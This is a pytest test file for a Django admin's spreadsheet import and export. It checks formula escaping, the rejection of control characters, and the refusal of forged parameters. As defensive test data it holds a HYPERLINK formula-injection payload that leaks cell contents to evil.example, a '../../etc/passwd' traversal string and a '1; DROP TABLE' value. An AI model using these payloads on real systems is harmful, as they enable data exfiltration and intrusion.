"""Every import and export of the admin goes through anso/spreadsheets/: formulas are escaped,
control characters never fail an export, imported cells are one line, hand-made parameters are
a 400."""

import csv
import io

import openpyxl
import pytest
import tablib
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin, ImportMixin

from anso.spreadsheets.formats import (
    FORMULA_STARTS,
    OneLineCellsMixin,
    escape_formula,
    unescape_formula,
)
from meetings.attendance.resources import ParticipantResource
from members.resources import OrganizationResource, PersonResource

from .factories import (
    MeetingFactory,
    OrganizationFactory,
    ParticipationFactory,
    PersonFactory,
    PositionFactory,
)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def _admins(mixin):
    return [
        pytest.param(model_admin, id=model._meta.label_lower)
        for model, model_admin in admin.site._registry.items()
        if isinstance(model_admin, mixin)
    ]


@pytest.fixture
def hostile_records():
    """Names as a visitor could have typed them before control characters were refused."""
    organization = OrganizationFactory(name="=2+3", short_name="@SUM(1+1)")
    person = PersonFactory(
        honorific="=2+3",
        given_name=HYPERLINK,
        family_name="@SUM(1+1)\x01\x0b",
        phone="-5",
        organization=organization,
    )
    PositionFactory(person=person, appointed_by=organization)
    ParticipationFactory(person=person, organization=None, organization_name="+1 and\x0b=1")
    return person


def _export(client, model_admin, resource_index, format_index):
    info = model_admin.model._meta.app_label, model_admin.model._meta.model_name
    url = reverse("admin:{}_{}_export".format(*info))
    form = client.get(url).context["form"]
    data = {"format": str(format_index), "resource": str(resource_index)}
    for name, field in form.fields.items():
        if getattr(field, "resource_index", None) == resource_index:
            data[name] = "on"
    return client.post(url, data)


def _cells(response, format_name):
    if format_name == "csv":
        return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell.value for row in book.active.iter_rows() for cell in row]


@pytest.mark.parametrize("model_admin", _admins(ExportMixin))
@pytest.mark.parametrize("format_name", ["csv", "xlsx"])
def test_every_export_escapes_formulas(
    secretariat_client, secretariat_user, rf, hostile_records, model_admin, format_name
):
    formats = [f().get_title() for f in model_admin.get_export_formats()]
    assert format_name in formats
    request = rf.get("/")
    request.user = secretariat_user
    resources = model_admin.get_export_resource_classes(request)
    for index, resource in enumerate(resources):
        response = _export(secretariat_client, model_admin, index, formats.index(format_name))
        assert response.status_code == 200, resource
        assert response["Content-Type"].startswith(("text/csv", "application/vnd.openxml"))
        cells = [cell for cell in _cells(response, format_name) if isinstance(cell, str)]
        live = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and cell != "-5"]
        assert live == [], resource
        assert any(cell.startswith(("'=", "'@", "'+")) for cell in cells), (
            f"{resource.__name__} exported none of the hostile values"
        )


def test_export_escapes_the_examples_of_the_report(secretariat_client, hostile_records):
    model_admin = admin.site._registry[type(hostile_records)]
    cells = _cells(_export(secretariat_client, model_admin, 0, 0), "csv")
    assert "'" + HYPERLINK in cells
    assert "'=2+3" in cells
    assert "-5" in cells  # a number stays a number
    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
    sheet = _cells(_export(secretariat_client, model_admin, 0, 1), "xlsx")
    assert "'" + HYPERLINK in sheet
    assert "'@SUM(1+1)\N{REPLACEMENT CHARACTER}\N{REPLACEMENT CHARACTER}" in sheet


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=2+3", "'=2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+86 10 6859 7000", "'+86 10 6859 7000"),
        ("-1+2", "'-1+2"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-5", "-5"),
        ("+3.25", "+3.25"),
        ("-1e3", "-1e3"),
        (-5, -5),
        ("Wang", "Wang"),
        ("'t Hooft", "'t Hooft"),
    ],
)
def test_escape_formula_and_back(value, escaped):
    assert escape_formula(value) == escaped
    assert unescape_formula(escaped) == value


def _import_through_the_worker(client, capture, model_admin, content: bytes, name: str):
    """Upload a file to the admin's import and let the (immediate) worker check it."""
    from anso.models import ImportJob

    upload = io.BytesIO(content)
    upload.name = name
    with capture(execute=True):
        response = client.post(_urls(model_admin, "import"), {"import_file": upload, "format": "0"})
    assert response.status_code == 302
    return ImportJob.objects.latest("pk")


def test_exported_file_imports_unchanged(secretariat_client, django_capture_on_commit_callbacks):
    """The apostrophe of an escaped cell is read back off on import."""
    organization = OrganizationFactory(name="=Formula Institute")
    model_admin = admin.site._registry[type(organization)]
    exported = _export(secretariat_client, model_admin, 0, 0).content
    assert b"'=Formula Institute" in exported
    organization.delete()
    job = _import_through_the_worker(
        secretariat_client,
        django_capture_on_commit_callbacks,
        model_admin,
        exported,
        "organizations.csv",
    )
    with django_capture_on_commit_callbacks(execute=True):
        response = secretariat_client.post(_urls(model_admin, "process_import"), {"job": job.pk})
    assert response.status_code == 302
    assert type(organization).objects.filter(name="=Formula Institute").exists()


# --- imports: one line per cell ------------------------------------------------------------


def _rows(resource_class):
    meeting = MeetingFactory()
    if resource_class is OrganizationResource:
        return ["name", "short_name"], ["Good Institute", "GI"], "name"
    if resource_class is PersonResource:
        return ["email", "family_name", "given_name"], ["a@example.org", "Li", "Na"], "given_name"
    return (
        ["meeting", "email", "family_name", "given_name"],
        [meeting.slug, "a@example.org", "Li", "Na"],
        "family_name",
    )


@pytest.mark.parametrize(
    "resource_class", [OrganizationResource, PersonResource, ParticipantResource]
)
@pytest.mark.parametrize("bad", ["\x01", "\x0b", "\n", "\r\n", "\u2028"])
def test_import_row_with_a_control_character_fails_naming_the_column(resource_class, bad):
    headers, good_row, column = _rows(resource_class)
    bad_row = list(good_row)
    bad_row[headers.index(column)] = f"Bad{bad}Name"
    if "email" in headers:
        bad_row[headers.index("email")] = "b@example.org"
    dataset = tablib.Dataset(good_row, bad_row, headers=headers)
    result = resource_class().import_data(dataset, dry_run=True)
    assert result.has_validation_errors()
    [invalid] = result.invalid_rows
    assert invalid.number == 2
    assert f"“{column}”" in " ".join(invalid.error_dict[column])


@pytest.mark.parametrize("model_admin", _admins(ImportMixin))
def test_every_import_resource_checks_its_cells(model_admin, rf, secretariat_user):
    request = rf.get("/")
    request.user = secretariat_user
    for resource in model_admin.get_import_resource_classes(request):
        assert issubclass(resource, OneLineCellsMixin), resource


def test_admin_import_reports_the_column(secretariat_client, django_capture_on_commit_callbacks):
    model_admin = admin.site._registry[OrganizationResource._meta.model]
    job = _import_through_the_worker(
        secretariat_client,
        django_capture_on_commit_callbacks,
        model_admin,
        b"name,short_name\nGood,G\nBad\x01Name,B\n",
        "organizations.csv",
    )
    content = secretariat_client.get(job.get_absolute_url()).content.decode()
    assert "The column “name” holds a line break or an invisible control" in content
    assert "Confirm import" not in content


# --- hand-made parameters ----------------------------------------------------------------


def _urls(model_admin, action):
    info = model_admin.model._meta.app_label, model_admin.model._meta.model_name
    return reverse("admin:{}_{}_{}".format(*info, action))


@pytest.mark.parametrize("model_admin", _admins(ImportMixin))
@pytest.mark.parametrize(
    "data",
    [
        {"format": "99"},
        {"format": "x"},
        {"format": "0", "resource": "9"},
    ],
)
def test_hand_made_import_parameters_are_a_400(secretariat_client, model_admin, data):
    response = secretariat_client.post(_urls(model_admin, "import"), data)
    assert response.status_code == 400, data
    assert b"Bad request" in response.content


@pytest.mark.parametrize("model_admin", _admins(ImportMixin))
@pytest.mark.parametrize("job", ["../../etc/passwd", "99999", "", "1; DROP TABLE"])
def test_hand_made_import_confirmations_are_a_404(secretariat_client, model_admin, job):
    response = secretariat_client.post(_urls(model_admin, "process_import"), {"job": job})
    assert response.status_code == 404


@pytest.mark.parametrize("model_admin", _admins(ExportMixin))
@pytest.mark.parametrize(
    "data", [{"format": "99"}, {"format": "-1"}, {"format": "0", "resource": "7"}]
)
def test_hand_made_export_parameters_are_a_400(secretariat_client, model_admin, data):
    response = secretariat_client.post(_urls(model_admin, "export"), data)
    assert response.status_code == 400
    assert "is not a" in response.content.decode()


#: `format` and `resource` values no page offers: out of range, negative, not a number, a
#: digit Python's isdigit() accepts and int() refuses, a full-width digit, a blank.
BAD_CHOICES = ["99", "abc", "-1", "1.0", "²", "\uff11", " 0", "0" * 30]


@pytest.mark.parametrize("model_admin", _admins((ExportMixin, ImportMixin)))
@pytest.mark.parametrize("action", ["export", "import"])
@pytest.mark.parametrize("name", ["format", "resource"])
def test_hand_made_choices_never_answer_500(secretariat_client, model_admin, action, name):
    """/admin/members/organization/export/?format=99 answered 500: the library checked the
    format of a POST only, and read the query string as the list's filters."""
    if not isinstance(model_admin, ExportMixin if action == "export" else ImportMixin):
        pytest.skip(f"no {action} on this admin")
    url = _urls(model_admin, action)
    for value in BAD_CHOICES:
        assert secretariat_client.get(url, {name: value}).status_code == 400, value
        posted = secretariat_client.post(url, {"format": "0", name: value})
        assert posted.status_code == 400, value
        both = secretariat_client.post(f"{url}?{name}=0", {name: value})
        assert both.status_code == 400, value


@pytest.mark.parametrize("model_admin", _admins(ExportMixin))
def test_export_with_a_filter_the_list_does_not_have_is_a_400(secretariat_client, model_admin):
    response = secretariat_client.get(_urls(model_admin, "export"), {"no_such_field": "1"})
    assert response.status_code == 400
    assert "filter" in response.content.decode()


@pytest.mark.parametrize("model_admin", _admins(ExportMixin))
def test_export_keeps_the_lists_filters(secretariat_client, model_admin):
    """The export page is reached from a filtered list, with the list's query string."""
    response = secretariat_client.get(_urls(model_admin, "export"), {"q": "x"})
    assert response.status_code == 200
